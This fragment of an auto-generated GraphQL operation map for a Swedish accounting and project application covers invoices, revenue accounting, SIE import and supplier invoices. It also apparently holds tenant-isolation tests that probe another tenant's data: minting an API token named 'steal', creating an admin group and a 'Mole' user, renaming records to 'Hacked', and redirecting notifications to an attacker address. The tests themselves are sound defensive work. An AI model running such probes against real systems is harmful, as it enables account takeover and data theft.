    "\n  mutation RegUpdateTerms($input: UpdatePaymentTermInput!) {\n    updatePaymentTerm(input: $input) {\n      __typename\n      ... on MutationUpdatePaymentTermSuccess { data { id code name days active } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.RegUpdateTermsDocument,
    "\n  mutation RegDeleteTerms($id: ID!) {\n    deletePaymentTerm(id: $id) {\n      __typename\n      ... on MutationDeletePaymentTermSuccess { data }\n      ... on Error { code path message }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RegDeleteTermsDocument,
    "query RegTerms($includeInactive: Boolean) { paymentTerms(includeInactive: $includeInactive) { id code days active } }": types.RegTermsDocument,
    "\n  mutation RegCustomerWithTerms($paymentTermId: ID!) {\n    createCustomer(input: { name: \"Terms user\", paymentTermId: $paymentTermId }) { __typename ... on MutationCreateCustomerSuccess { data { paymentTerm { code } } } }\n  }\n": types.RegCustomerWithTermsDocument,
    "\n  query RegVouchers($filter: VoucherFilter, $first: Int) {\n    vouchers(filter: $filter, first: $first) {\n      totalCount\n      edges {\n        node {\n          id source remoteId series number transactionDate description\n          rows {\n            rowIndex accountNumber debit credit note\n            account { number name }\n            project { number }\n            workOrder { number reference }\n            changeOrder { code }\n            costCentre { code }\n          }\n        }\n      }\n    }\n  }\n": types.RegVouchersDocument,
    "\n  query RegVoucherNode($id: ID!) { node(id: $id) { id ... on Voucher { remoteId rows { rowIndex debit } } } }\n": types.RegVoucherNodeDocument,
    "\n  query RegLedger($id: ID!) {\n    node(id: $id) {\n      id\n      ... on Project {\n        number\n        costLedger {\n          byAccount { accountNumber accountName accountKind debit credit net }\n          byPart { workOrder { number reference } changeOrder { code reference } debit credit net }\n          total { debit credit net }\n        }\n      }\n    }\n  }\n": types.RegLedgerDocument,
    "\n  query RegLedgerPage($first: Int!) {\n    projects(first: $first) {\n      edges {\n        node {\n          id number\n          costLedger {\n            byAccount { accountNumber accountName net }\n            byPart { workOrder { id number reference } changeOrder { id code } net }\n            total { debit credit net }\n          }\n        }\n      }\n    }\n  }\n": types.RegLedgerPageDocument,
    "mutation RevAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": types.RevAccountDocument,
    "\n  mutation RevCostCentre { createCostCentre(input: { code: \"KS1\", name: \"Stockholm\" }) { __typename ... on MutationCreateCostCentreSuccess { data { id } } } }\n": types.RevCostCentreDocument,
    "mutation RevSettings { updateCompanySettings(input: { vatNumber: \"SE556036079301\" }) { __typename } }": types.RevSettingsDocument,
    "\n  mutation RevCustomer($input: CreateCustomerInput!) {\n    createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id category contacts(first: 5) { edges { node { id } } } } } }\n  }\n": types.RevCustomerDocument,
    "query RevCustomers($filter: CustomerFilter) { customers(filter: $filter, first: 50) { edges { node { name category } } } }": types.RevCustomersDocument,
    "\n  mutation RevProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n": types.RevProjectDocument,
    "\n  mutation RevWorkOrder($projectId: ID!, $name: String!) { createWorkOrder(projectId: $projectId, input: { name: $name }) { __typename ... on MutationCreateWorkOrderSuccess { data { id number } } } }\n": types.RevWorkOrderDocument,
    "\n  mutation RevChangeOrder($projectId: ID!) { createChangeOrder(projectId: $projectId, input: { name: \"Extra fönster\" }) { __typename ... on MutationCreateChangeOrderSuccess { data { id number } } } }\n": types.RevChangeOrderDocument,
    "\n  query RevSetup { revenueAccountingSettings { active activatedAt dimensions { number meaning name included mandatory } postingRules { position isDefault accountNumber constructionVat customerCategory costAccounts lineKind vatRate taxReductionType } } }\n": types.RevSetupDocument,
    "\n  mutation RevActivate($input: RevenueAccountingSettingsInput!) {\n    updateRevenueAccountingSettings(input: $input) {\n      __typename\n      ... on MutationUpdateRevenueAccountingSettingsSuccess { data { active dimensions { number included mandatory name } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RevActivateDocument,
    "\n  mutation RevRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) {\n      __typename\n      ... on MutationSetRevenuePostingRulesSuccess { data { postingRules { position isDefault accountNumber } } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RevRulesDocument,
    "\n  mutation RevInvoice($input: CreateInvoiceInput!) {\n    createInvoice(input: $input) {\n      __typename\n      ... on MutationCreateInvoiceSuccess {\n        data {\n          id number subtotal\n          lines { id amount kind revenueLines { id accountNumber amount project { id } workOrder { id } costCentre { id } setByHand } }\n          revenueLines { id accountNumber amount isBalancePosting }\n          accountingBasis { id sortOrder description quantity unit unitPrice amount vatRate accountNumber kind reductionType workType hours reductionAmount line { id } }\n        }\n      }\n      ... on Error { code message }\n    }\n  }\n": types.RevInvoiceDocument,
    "\n  query RevRead($id: ID!) {\n    invoice(id: $id) {\n      id subtotal isCredit\n      lines { id amount revenueLines { id accountNumber amount workOrder { id } changeOrder { id } setByHand } }\n      revenueLines { id accountNumber amount isBalancePosting kind line { id } }\n      revenueAccounting { accountNumber kind amount workOrder { id } changeOrder { id } project { id } costCentre { id } revenueLines { id line { id } } }\n      accountingBasis { id description quantity amount accountNumber kind workType hours reductionAmount reductionType workOrder { id } }\n    }\n  }\n": types.RevReadDocument,
    "\n  mutation RevUpdateInvoice($input: UpdateInvoiceInput!) {\n    updateInvoice(input: $input) { __typename ... on MutationUpdateInvoiceSuccess { revenueAccountingReset data { contractorVat } } ... on Error { code } }\n  }\n": types.RevUpdateInvoiceDocument,
    "\n  mutation RevAddLine($invoiceId: ID!, $input: InvoiceLineInput!) {\n    addInvoiceLine(invoiceId: $invoiceId, input: $input) { __typename ... on MutationAddInvoiceLineSuccess { data { id revenueLines { accountNumber amount } } } }\n  }\n": types.RevAddLineDocument,
    "\n  mutation RevUpdateLine($id: ID!, $input: InvoiceLineInput!) {\n    updateInvoiceLine(id: $id, input: $input) { __typename ... on MutationUpdateInvoiceLineSuccess { data { amount revenueLines { accountNumber amount } } } }\n  }\n": types.RevUpdateLineDocument,
    "\n  mutation RevEditRevenue($id: ID!, $input: RevenueLineInput!) {\n    updateInvoiceRevenueLine(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateInvoiceRevenueLineSuccess { data { accountNumber workOrder { id } setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission message }\n      ... on Error { code message }\n    }\n  }\n": types.RevEditRevenueDocument,
    "\n  mutation RevSplit($lineId: ID!, $parts: [RevenueSplitPartInput!]!) {\n    splitInvoiceLineRevenue(lineId: $lineId, parts: $parts) {\n      __typename\n      ... on MutationSplitInvoiceLineRevenueSuccess { data { revenueLines { amount accountNumber workOrder { id } changeOrder { id } } } }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n": types.RevSplitDocument,
    "\n  mutation RevBalance($invoiceId: ID!, $input: BalancePostingInput!) {\n    addBalancePosting(invoiceId: $invoiceId, input: $input) {\n      __typename\n      ... on MutationAddBalancePostingSuccess { data { id isBalancePosting accountNumber amount } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n      ... on Error { code }\n    }\n  }\n": types.RevBalanceDocument,
    "mutation RevRemoveBalance($id: ID!) { removeBalancePosting(id: $id) { __typename ... on Error { code } } }": types.RevRemoveBalanceDocument,
    "mutation RevReset($invoiceId: ID!) { resetInvoiceRevenueAccounting(invoiceId: $invoiceId) { __typename ... on Error { code } } }": types.RevResetDocument,
    "\n  mutation RevBasisRow($id: ID!, $input: AccountingBasisRowInput!) {\n    updateAccountingBasisRow(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateAccountingBasisRowSuccess { data { workType hours reductionAmount amount setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.RevBasisRowDocument,
    "\n  mutation RevRebuild($invoiceId: ID!) {\n    rebuildAccountingBasis(invoiceId: $invoiceId) {\n      __typename\n      ... on MutationRebuildAccountingBasisSuccess { data { accountingBasis { amount workType hours reductionAmount kind } } }\n      ... on Error { code }\n    }\n  }\n": types.RevRebuildDocument,
    "\n  mutation RevBuyers($invoiceId: ID!, $contactId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount } } } }\n": types.RevBuyersDocument,
    "\n  mutation RevWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) { __typename } }\n": types.RevWorkTypesDocument,
    "\n  mutation RevLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } ... on Error { code } }\n  }\n": types.RevLockDocument,
    "mutation RevUnlock($id: ID!) { unlockInvoice(id: $id) { __typename } }": types.RevUnlockDocument,
    "\n  mutation RevCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel pris\") {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id subtotal revenueLines { accountNumber amount isBalancePosting } accountingBasis { amount quantity accountNumber reductionAmount } } }\n      ... on Error { code message path }\n    }\n  }\n": types.RevCreditDocument,
    "query RevNoPermission($id: ID!) { invoice(id: $id) { id revenueLines { id } } }": types.RevNoPermissionDocument,
    "\n  mutation SerCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": types.SerCustomerDocument,
    "\n  mutation SerProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message } }\n  }\n": types.SerProjectDocument,
    "mutation SerAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }": types.SerAccountDocument,
    "\n  mutation SerRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) { __typename ... on Error { code message } }\n  }\n": types.SerRulesDocument,
    "\n  mutation ImpSie($file: File!, $mode: SieImportMode, $options: SieImportOptions) {\n    importSie(file: $file, mode: $mode, options: $options) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          mode committed message encoding program sieType\n          accounts { total created updated unchanged skipped errors }\n          costCentres { total created updated unchanged skipped errors }\n          vouchers { total created updated unchanged skipped errors }\n          warnings { line code message }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.ImpSieDocument,
    "\n  mutation SieCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n": types.SieCustomerDocument,
    "\n  mutation SieProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n": types.SieProjectDocument,
    "\n  mutation SiCreate($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess {\n        data {\n          id invoiceNumber invoiceDate dueDate currency net vat total ocr status approvalsRequired disputed externalNumber bookkept createdBy\n          supplierNumber supplierName\n          document { fileName contentType size url }\n          rows { id position accountNumber amount vatRate projectNumber description costCentreCode }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.SiCreateDocument,
    "\n  mutation SiUpdate($input: UpdateSupplierInvoiceInput!) {\n    updateSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceSuccess { data { id net vat total ocr dueDate status approvals { signature } document { fileName } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.SiUpdateDocument,
    "\n  mutation SiAddRow($input: AddSupplierInvoiceRowInput!) {\n    addSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationAddSupplierInvoiceRowSuccess { data { id approvals { signature } rows { id accountNumber amount projectNumber } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.SiAddRowDocument,
    "\n  mutation SiUpdateRow($input: UpdateSupplierInvoiceRowInput!) {\n    updateSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceRowSuccess { data { id rows { id amount vatRate description } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n": types.SiUpdateRowDocument,
    "\n  mutation SiRemoveRow($id: ID!) {\n    removeSupplierInvoiceRow(id: $id) {\n      __typename\n      ... on MutationRemoveSupplierInvoiceRowSuccess { data { id rows { id } } }\n      ... on Error { code path }\n    }\n  }\n": types.SiRemoveRowDocument,
    "\n  mutation SiApprove($id: ID!) {\n    approveSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationApproveSupplierInvoiceSuccess { data { id status approvedAt approvals { name signature approvedAt } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n": types.SiApproveDocument,
    "\n  mutation SiDispute($id: ID!, $reason: String!) {\n    disputeSupplierInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationDisputeSupplierInvoiceSuccess { data { id disputed disputeReason disputedAt } }\n      ... on Error { code path }\n    }\n  }\n": types.SiDisputeDocument,
    "\n  mutation SiUndispute($id: ID!) {\n    undisputeSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationUndisputeSupplierInvoiceSuccess { data { id disputed disputeReason } }\n      ... on Error { code path }\n    }\n  }\n": types.SiUndisputeDocument,
    "\n  query SiList($search: String, $filter: SupplierInvoiceFilter) {\n    supplierInvoices(first: 50, search: $search, filter: $filter) { totalCount edges { node { id invoiceNumber status disputed } } }\n  }\n": types.SiListDocument,
    "query SiNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber status } } }": types.SiNodeDocument,
    "query SiVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType size url } } } } }": types.SiVoucherFilesDocument,
    "\n  mutation TenantSeed($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { message }\n    }\n  }\n": types.TenantSeedDocument,
    "\n  mutation TenantSeedField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } }\n  }\n": types.TenantSeedFieldDocument,
    "\n  mutation TenantSeedGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) { __typename ... on MutationCreateGroupSuccess { data { id } } }\n  }\n": types.TenantSeedGroupDocument,
    "\n  mutation TenantSeedUser($input: CreateUserInput!) {\n    createUser(input: $input) { __typename ... on MutationCreateUserSuccess { data { id } } }\n  }\n": types.TenantSeedUserDocument,
    "\n  mutation TenantSeedToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) { __typename ... on MutationCreateApiTokenSuccess { data { apiToken { id } } } }\n  }\n": types.TenantSeedTokenDocument,
    "\n  query TenantSeedTerms { paymentTerms { id } me { id } }\n": types.TenantSeedTermsDocument,
    "query TenantApiTokens { apiTokens(includeRevoked: true) { id name tokenPrefix user { id name } } }": types.TenantApiTokensDocument,
    "query TenantCompany { company { id name } }": types.TenantCompanyDocument,
    "query TenantFieldDefs { customFieldDefinitions(includeInactive: true) { id key label } }": types.TenantFieldDefsDocument,
    "query TenantCustomer($id: ID!) { customer(id: $id) { id name } }": types.TenantCustomerDocument,
    "query TenantCustomerByNumber($number: String!) { customerByNumber(number: $number) { id name } }": types.TenantCustomerByNumberDocument,
    "query TenantCustomers($search: String) { customers(search: $search, first: 200) { totalCount edges { node { id name email contacts(first: 5) { edges { node { id name } } } } } } }": types.TenantCustomersDocument,
    "query TenantGroups { groups { id name members { id name } } }": types.TenantGroupsDocument,
    "query TenantMe { me { id name email } }": types.TenantMeDocument,
    "query TenantNode($id: ID!) { node(id: $id) { id ... on Customer { name } ... on Contact { name } ... on User { name email } } }": types.TenantNodeDocument,
    "query TenantNodes($ids: [ID!]!) { nodes(ids: $ids) { id } }": types.TenantNodesDocument,
    "query TenantPaymentTerms { paymentTerms(includeInactive: true) { id code } }": types.TenantPaymentTermsDocument,
    "query TenantPermissions { permissions { permission description } }": types.TenantPermissionsDocument,
    "query TenantUsers { users(first: 100, includeInactive: true) { edges { node { id name email } } } }": types.TenantUsersDocument,
    "mutation TenantActivate($id: ID!) { activateCustomer(id: $id) { __typename ... on Error { code } ... on MutationActivateCustomerSuccess { data { id name } } } }": types.TenantActivateDocument,
    "mutation TenantAddContact($customerId: ID!) { addContact(customerId: $customerId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationAddContactSuccess { data { id customer { name } } } } }": types.TenantAddContactDocument,
    "mutation TenantAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on Error { code } ... on MutationAssignCustomerSuccess { data { id assignedUser { name } } } } }": types.TenantAssignDocument,
    "mutation TenantChangeNumber($id: ID!) { changeCustomerNumber(id: $id, number: \"666\") { __typename ... on Error { code } ... on MutationChangeCustomerNumberSuccess { data { id name } } } }": types.TenantChangeNumberDocument,
    "mutation TenantCopy($customerId: ID!) { copyCustomerToContact(customerId: $customerId) { __typename ... on Error { code } ... on MutationCopyCustomerToContactSuccess { data { id name } } } }": types.TenantCopyDocument,
    "mutation TenantCreateToken($userId: ID) { createApiToken(input: { name: \"steal\", userId: $userId }) { __typename ... on Error { code } ... on MutationCreateApiTokenSuccess { data { token apiToken { user { name } } } } } }": types.TenantCreateTokenDocument,
    "mutation TenantCreateField { createCustomFieldDefinition(input: { key: \"secretField\", label: \"x\", type: TEXT }) { __typename ... on Error { code } ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } } }": types.TenantCreateFieldDocument,
    "mutation TenantCreateCustomer($paymentTermId: ID, $assignedUserId: ID) { createCustomer(input: { name: \"Intruder\", number: \"B-777\", paymentTermId: $paymentTermId, assignedUserId: $assignedUserId }) { __typename ... on Error { code } ... on ValidationError { issues { path code } } ... on MutationCreateCustomerSuccess { data { id paymentTerm { id } assignedUser { id } } } } }": types.TenantCreateCustomerDocument,
    "mutation TenantCreateGroup { createGroup(input: { name: \"Victim admins\", permissions: [ADMIN_USERS] }) { __typename ... on Error { code } ... on MutationCreateGroupSuccess { data { id members { name } } } } }": types.TenantCreateGroupDocument,
    "mutation TenantCreateUser($groupIds: [ID!]) { createUser(input: { name: \"Mole\", email: \"mole@a.se\", signature: \"MOLE\", groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationCreateUserSuccess { data { id groups { name } } } } }": types.TenantCreateUserDocument,
    "mutation TenantDeleteField($id: ID!) { deleteCustomFieldDefinition(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteFieldDocument,
    "mutation TenantDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteCustomerDocument,
    "mutation TenantDeleteGroup($id: ID!) { deleteGroup(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteGroupDocument,
    "mutation TenantInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename ... on Error { code } ... on MutationInactivateCustomerSuccess { data { id name } } } }": types.TenantInactivateDocument,
    "mutation TenantRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }": types.TenantRemoveContactDocument,
    "mutation TenantRevoke($id: ID!) { revokeApiToken(id: $id) { __typename ... on Error { code } ... on MutationRevokeApiTokenSuccess { data { id name } } } }": types.TenantRevokeDocument,
    "mutation TenantSettings { updateCompanySettings(input: { name: \"Renamed A\" }) { __typename ... on Error { code } ... on MutationUpdateCompanySettingsSuccess { data { id name } } } }": types.TenantSettingsDocument,
    "mutation TenantUpdateContact($id: ID!) { updateContact(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateContactSuccess { data { id name } } } }": types.TenantUpdateContactDocument,
    "mutation TenantUpdateField($id: ID!) { updateCustomFieldDefinition(input: { id: $id, label: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomFieldDefinitionSuccess { data { id label } } } }": types.TenantUpdateFieldDocument,
    "mutation TenantUpdateCustomer($id: ID!) { updateCustomer(input: { id: $id, name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomerSuccess { data { id name } } } }": types.TenantUpdateCustomerDocument,
    "mutation TenantUpdateGroup($id: ID!) { updateGroup(input: { id: $id, name: \"Hacked\", permissions: [] }) { __typename ... on Error { code } ... on MutationUpdateGroupSuccess { data { id } } } }": types.TenantUpdateGroupDocument,
    "mutation TenantUpdateUser($id: ID!, $groupIds: [ID!]) { updateUser(input: { id: $id, name: \"Hacked\", active: false, groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationUpdateUserSuccess { data { id name } } } }": types.TenantUpdateUserDocument,
    "\n    query TenantCustomerPortal {\n      customerPortal {\n        number\n        name\n        invoices(first: 10) { totalCount edges { node { number pdfUrl } } }\n        projects(first: 10) { totalCount edges { node { number name } } }\n        documents(first: 10) { totalCount edges { node { name url } } }\n        documentFolders { id name }\n      }\n    }\n  ": types.TenantCustomerPortalDocument,
    "\n    mutation TenantInviteCustomerUser($customerId: ID!) {\n      inviteCustomerUser(customerId: $customerId, email: \"intruder@a.example\", rights: [INVOICES]) { __typename ... on Error { code } }\n    }\n  ": types.TenantInviteCustomerUserDocument,
    "\n    mutation TenantSetCustomerUserRights($userId: ID!) {\n      setCustomerUserRights(userId: $userId, rights: [INVOICES, PROJECTS, DOCUMENTS]) { __typename ... on Error { code } }\n    }\n  ": types.TenantSetCustomerUserRightsDocument,
    "mutation TenantDeleteCustomerUser($userId: ID!) { deleteCustomerUser(userId: $userId) { __typename ... on Error { code } } }": types.TenantDeleteCustomerUserDocument,
    "\n    query TenantDocumentNodes($doc: ID!, $folder: ID!, $customer: ID!) {\n      doc: node(id: $doc) { id ... on Document { name url } }\n      folder: node(id: $folder) { id ... on DocumentFolder { name } }\n      customer(id: $customer) { id documents(first: 10) { edges { node { id name } } } documentFolders { id name } }\n    }\n  ": types.TenantDocumentNodesDocument,
    "\n    mutation TenantUploadCustomerDocument($input: UploadCustomerDocumentInput!) {\n      uploadCustomerDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadCustomerDocumentSuccess { data { id name folder { name } } } }\n    }\n  ": types.TenantUploadCustomerDocumentDocument,
    "\n    mutation TenantUploadProjectDocument($input: UploadProjectDocumentInput!) {\n      uploadProjectDocument(input: $input) { __typename ... on Error { code } ... on MutationUploadProjectDocumentSuccess { data { id name } } }\n    }\n  ": types.TenantUploadProjectDocumentDocument,
    "mutation TenantDeleteDocument($id: ID!) { deleteDocument(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentSuccess { data } } }": types.TenantDeleteDocumentDocument,
    "\n    mutation TenantCreateCustomerDocumentFolder($customerId: ID!) {\n      createCustomerDocumentFolder(input: { customerId: $customerId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateCustomerDocumentFolderSuccess { data { id } } }\n    }\n  ": types.TenantCreateCustomerDocumentFolderDocument,
    "\n    mutation TenantCreateProjectDocumentFolder($projectId: ID!) {\n      createProjectDocumentFolder(input: { projectId: $projectId, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationCreateProjectDocumentFolderSuccess { data { id } } }\n    }\n  ": types.TenantCreateProjectDocumentFolderDocument,
    "\n    mutation TenantRenameDocumentFolder($id: ID!) {\n      renameDocumentFolder(input: { id: $id, name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationRenameDocumentFolderSuccess { data { id name } } }\n    }\n  ": types.TenantRenameDocumentFolderDocument,
    "mutation TenantDeleteDocumentFolder($id: ID!) { deleteDocumentFolder(id: $id) { __typename ... on Error { code } ... on MutationDeleteDocumentFolderSuccess { data } } }": types.TenantDeleteDocumentFolderDocument,
    "\n  mutation ImpTenantCustomers($file: File!, $mode: ImportMode) {\n    importCustomers(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportCustomersSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n": types.ImpTenantCustomersDocument,
    "\n  mutation ImpTenantContacts($file: File!, $mode: ImportMode) {\n    importContacts(file: $file, mode: $mode) {\n      __typename\n      ... on MutationImportContactsSuccess { data { committed totalRows rows { row outcome customerNumber name id changes { field from to } errors { column code message } } } }\n      ... on Error { code message }\n    }\n  }\n": types.ImpTenantContactsDocument,
    "\n  mutation TenantIntSeedConnection {\n    createConnection(input: { connectorId: \"template\", name: \"Victim Ledger Conn\", sandbox: true, settings: { baseUrl: \"http://127.0.0.1:9/victim-ledger\" }, credentials: { apiKey: \"victim-api-key\" }, notificationEmails: [\"victim-int@victim.se\"] }) {\n      __typename ... on MutationCreateConnectionSuccess { data { id } }\n    }\n  }\n": types.TenantIntSeedConnectionDocument,
    "query TenantConnectors { connectors { id flows { id } } }": types.TenantConnectorsDocument,
    "query TenantConnectionFiles($id: ID!) { connectionFiles(connectionId: $id, first: 10) { edges { node { id name url sha256 } } } }": types.TenantConnectionFilesDocument,
    "\n    query TenantConnections {\n      connections { id name settings notificationEmails runs(first: 10) { edges { node { id error failures { id reference message } } } } }\n    }\n  ": types.TenantConnectionsDocument,
    "mutation TenantCreateConnection { createConnection(input: { connectorId: \"template\", name: \"Intruder Conn\", settings: { baseUrl: \"http://127.0.0.1:9/a\" } }) { __typename ... on Error { code } ... on MutationCreateConnectionSuccess { data { id name } } } }": types.TenantCreateConnectionDocument,
    "mutation TenantUpdateConnection($id: ID!) { updateConnection(input: { id: $id, name: \"Hacked\", active: false, notificationEmails: [\"x@attacker.se\"] }) { __typename ... on Error { code } ... on MutationUpdateConnectionSuccess { data { id name } } } }": types.TenantUpdateConnectionDocument,
    "mutation TenantDeleteConnection($id: ID!) { deleteConnection(id: $id) { __typename ... on Error { code } } }": types.TenantDeleteConnectionDocument,
    "mutation TenantResumeConnection($id: ID!) { resumeConnection(id: $id) { __typename ... on Error { code } ... on MutationResumeConnectionSuccess { data { id } } } }": types.TenantResumeConnectionDocument,
    "mutation TenantSetConnectionFlow($id: ID!) { setConnectionFlowEnabled(id: $id, flowId: \"project-part-export\", enabled: true) { __typename ... on Error { code } } }": types.TenantSetConnectionFlowDocument,
    "mutation TenantConnectionAuthorizeUrl($id: ID!) { connectionAuthorizeUrl(id: $id, redirectUri: \"http://localhost/cb\", state: \"state-123456\") { __typename ... on Error { code } ... on MutationConnectionAuthorizeUrlSuccess { data } } }": types.TenantConnectionAuthorizeUrlDocument,
    "mutation TenantAuthorizeConnection($id: ID!) { authorizeConnection(id: $id, code: \"c\", redirectUri: \"http://localhost/cb\") { __typename ... on Error { code } } }": types.TenantAuthorizeConnectionDocument,
    "mutation TenantCheckConnection($id: ID!) { checkConnection(id: $id) { __typename ... on Error { code } ... on MutationCheckConnectionSuccess { data { ok message } } } }": types.TenantCheckConnectionDocument,
    "mutation TenantRunConnection($id: ID!) { runConnection(id: $id) { __typename ... on Error { code } ... on MutationRunConnectionSuccess { data { id } } } }": types.TenantRunConnectionDocument,
    "mutation TenantCancelConnectorRun($id: ID!) { cancelConnectorRun(id: $id) { __typename ... on Error { code } ... on MutationCancelConnectorRunSuccess { data { id status } } } }": types.TenantCancelConnectorRunDocument,
    "mutation TenantReexportInvoices($id: ID!, $invoiceIds: [ID!]!) { reexportInvoices(connectionId: $id, invoiceIds: $invoiceIds) { __typename ... on Error { code } ... on MutationReexportInvoicesSuccess { data { id } } } }": types.TenantReexportInvoicesDocument,
    "mutation TenantReexportSupplierInvoices($id: ID!, $supplierInvoiceIds: [ID!]!) { reexportSupplierInvoices(connectionId: $id, supplierInvoiceIds: $supplierInvoiceIds) { __typename ... on Error { code } ... on MutationReexportSupplierInvoicesSuccess { data { id } } } }": types.TenantReexportSupplierInvoicesDocument,
    "mutation TenantRetryConnectorFailure($id: ID!) { retryConnectorFailure(id: $id) { __typename ... on Error { code } ... on MutationRetryConnectorFailureSuccess { data { id } } } }": types.TenantRetryConnectorFailureDocument,
    "\n    mutation TenantSendInvoice($invoiceId: ID!, $method: InvoiceDeliveryMethod) {\n      sendInvoice(invoiceId: $invoiceId, method: $method) { __typename ... on Error { code } ... on MutationSendInvoiceSuccess { data { id recipient } } }\n    }\n  ": types.TenantSendInvoiceDocument,
    "\n  mutation TenantInvSeedCustomer {\n    createCustomer(input: { name: \"Victim Invoice Customer\", type: PRIVATE, contacts: [{ name: \"Victim Buyer\", personalIdentityNumber: \"200001012392\", propertyDesignation: \"VICTIM 1:1\" }] }) {\n      __typename ... on MutationCreateCustomerSuccess { data { id contacts(first: 1) { edges { node { id } } } } }\n    }\n  }\n": types.TenantInvSeedCustomerDocument,
    "\n  mutation TenantInvSeedProject($customerId: ID!) {\n    createProject(input: { customerId: $customerId, name: \"Victim Invoice Project\", statusCode: 50 }) { __typename ... on MutationCreateProjectSuccess { data { id } } }\n  }\n": types.TenantInvSeedProjectDocument,
    "\n  mutation TenantInvSeedInvoice($projectId: ID!) {\n    createInvoice(input: { projectId: $projectId, title: \"Victim invoice title\", taxReductionType: ROT, lines: [{ description: \"Victim line\", quantity: \"1\", unitPrice: \"98765.43\", kind: LABOUR }] }) {\n      __typename ... on MutationCreateInvoiceSuccess { data { id lines { id } } }\n    }\n  }\n": types.TenantInvSeedInvoiceDocument,
